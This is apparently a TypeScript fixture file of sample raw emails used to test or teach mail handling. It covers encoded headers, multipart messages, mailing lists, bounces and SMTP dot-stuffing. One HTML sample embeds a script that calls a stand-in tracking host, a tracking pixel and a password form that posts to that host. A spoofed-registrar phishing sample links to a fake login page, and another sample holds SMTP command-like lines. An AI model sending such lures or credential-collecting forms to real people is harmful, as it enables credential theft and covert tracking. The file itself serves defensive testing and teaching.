/** What prepared letters say that are written out as they lie in a mailbox: lines ended by LF, `{…}` filled in later. */

export const PLAIN = `From: Alice <alice@campus.test>
To: {to}
Subject: Minutes of Tuesday
Date: {date}
Message-ID: <{id}@mail.campus.test>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Hello,

the minutes of Tuesday, in short: the network lab opens at eight, the
printer stays where it is, and Bob brings the coffee.

This is the simplest letter there is: a header, an empty line, a text.
Look at its source: nothing in it is hidden.

Alice
`;

export const UTF8 = `From: =?UTF-8?Q?Zo=C3=AB_Favre?= <alice@campus.test>
To: {to}
Subject: =?UTF-8?Q?Caf=C3=A9_cr=C3=A8me_=C3=A0_No=C3=ABl=3F?=
 =?UTF-8?B?IOKYlSDmmI7ml6Xjga/jgYTjgYvjgYw=?=
Date: {date}
Message-ID: <{id}@mail.campus.test>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Bonjour,

le caf=C3=A9 du d=C3=A9partement reste ouvert pendant les f=C3=AAtes =E2=80=
=93 m=C3=AAme le 24.

The subject is two encoded words, one in Q and one in B: the line between
them is only a fold, and disappears. =E2=98=95

Zo=C3=AB
`;

export const ALTERNATIVE = `From: Bob <bob@campus.test>
To: {to}
Subject: One text, twice
Date: {date}
Message-ID: <{id}@mail.campus.test>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="either-or"

--either-or
Content-Type: text/plain; charset=us-ascii

Dear all,

the same text stands in this letter twice: once plain, once as HTML. Your
program shows the last one that it can show (RFC 2046, section 5.1.4).

Nothing makes the two agree. Compare the prices:

    Ticket: 10 francs
--either-or
Content-Type: text/html; charset=us-ascii

<!doctype html>
<p>Dear all,</p>
<p>the <b>same</b> text stands in this letter twice: once plain, once as HTML.
Your program shows the last one that it can show (RFC 2046, section 5.1.4).</p>
<p>Nothing makes the two agree. Compare the prices:</p>
<p>Ticket: <b>12 francs</b></p>
--either-or--
`;

export const HTML = `From: Newsletter <news@bulk.spam.test>
To: {to}
Subject: You will love this
Date: {date}
Message-ID: <{id}@bulk.spam.test>
MIME-Version: 1.0
Content-Type: text/html; charset=us-ascii

<!doctype html>
<html><head>
<style>@import url(http://track.spam.test/style.css); body { font-family: serif }</style>
<script>document.title = 'I ran'; fetch('http://track.spam.test/ran')</script>
<meta http-equiv="refresh" content="0; url=http://track.spam.test/">
</head>
<body onload="alert('I ran')">
<h1>You will love this</h1>
<p>This letter tries what hostile letters try. A page that shows it must not
run its script, must not ask the network for its pictures, and must not follow
its links by itself.</p>
<img src="http://track.spam.test/pixel.gif?reader={to}" width="1" height="1" alt="">
<p><a href="javascript:alert('I ran')">A link that is a program</a></p>
<p><a href="http://track.spam.test/login">https://mail.campus.test/login</a>: a link
that says one place and goes to another</p>
<form action="http://track.spam.test/collect"><input name="password" type="password"
placeholder="Your password"><button>Log in</button></form>
<iframe src="http://track.spam.test/frame"></iframe>
<p>(Practice mail.)</p>
</body></html>
`;

export const LIST = `Received: from lists.campus.test (lists.campus.test [192.0.2.30])
 by mail.campus.test with ESMTP id L15T; {date}
From: Carla <carla@faculty.test>
Sender: seminar-bounces@lists.campus.test
To: seminar@lists.campus.test
Reply-To: seminar@lists.campus.test
Subject: [seminar] Room change
Date: {date}
Message-ID: <{id}@faculty.test>
List-Id: Network seminar <seminar.lists.campus.test>
List-Post: <mailto:seminar@lists.campus.test>
List-Help: <mailto:seminar-request@lists.campus.test?subject=help>
List-Archive: <http://lists.campus.test/seminar/>
List-Unsubscribe: <mailto:seminar-leave@lists.campus.test>,
 <https://lists.campus.test/seminar/leave?who=4711>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Precedence: list
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Dear all,

we meet in room B30 this week.

You are not named in To: the list sent this to each of its members, with an
envelope of its own, so that what cannot be delivered comes back to the list
and not to Carla. The List- fields (RFC 2369, RFC 2919) tell your program how
to answer, to leave, and to sort.

Carla
_______________________________________________
seminar@lists.campus.test
To leave: https://lists.campus.test/seminar/leave?who=4711
`;

export const BOUNCE = `From: Mail Delivery System <MAILER-DAEMON@mx1.faculty.test>
To: {to}
Subject: Undelivered Mail Returned to Sender
Date: {date}
Message-ID: <{id}@mx1.faculty.test>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="returned"

--returned
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx1.faculty.test.

Your message could not be delivered to the recipient below.

<nobody@faculty.test>
    said: 550 5.1.1 <nobody@faculty.test>: no such mailbox here

This part is for people. The next one says the same for programs (RFC 3464),
the last one shows which letter it is about.
--returned
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.faculty.test
Arrival-Date: {date}

Final-Recipient: rfc822; nobody@faculty.test
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 <nobody@faculty.test>: no such mailbox here
Last-Attempt-Date: {date}

--returned
Content-Type: text/rfc822-headers

From: {to}
To: nobody@faculty.test
Subject: Are you there?
Date: {date}
Message-ID: <asked.{id}@mail.campus.test>

--returned--
`;

export const PHISHING = `From: "Registrar <registrar@campus.test>" <support@bulk.spam.test>
Reply-To: registrar@campus-test.example
To: {to}
Subject: Your mailbox will be closed today
Date: {date}
Message-ID: <{id}@bulk.spam.test>
X-Priority: 1
MIME-Version: 1.0
Content-Type: text/html; charset=us-ascii

<!doctype html>
<p>Dear user,</p>
<p>your mailbox {to} will be closed <b>today</b>. Confirm your password at
<a href="http://bulk.spam.test/campus/login">https://mail.campus.test/login</a>
within two hours.</p>
<p>The Registrar</p>
<hr>
<p><small>(Practice mail. Four things give it away: the address is inside the name,
the real one is another; the answer would go to a third; the link says one place and
leads to another; and there is haste. Where a server took it, there is a fifth above:
its Received field names who brought it.)</small></p>
`;

export const DOTS = `From: Alice <alice@campus.test>
To: {to}
Subject: Dots, and what looks like a command
Date: {date}
Message-ID: <{id}@mail.campus.test>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

The next line is a lone dot. It did not end the letter, because another one
was put before it on the way (RFC 5321, section 4.5.2):
.
Two dots, and three:
..
...
.QUIT
QUIT
RSET
From here on nothing is different. A line that begins with From is quoted in
an mbox file and nowhere else:
From alice, with dots.
.
`;
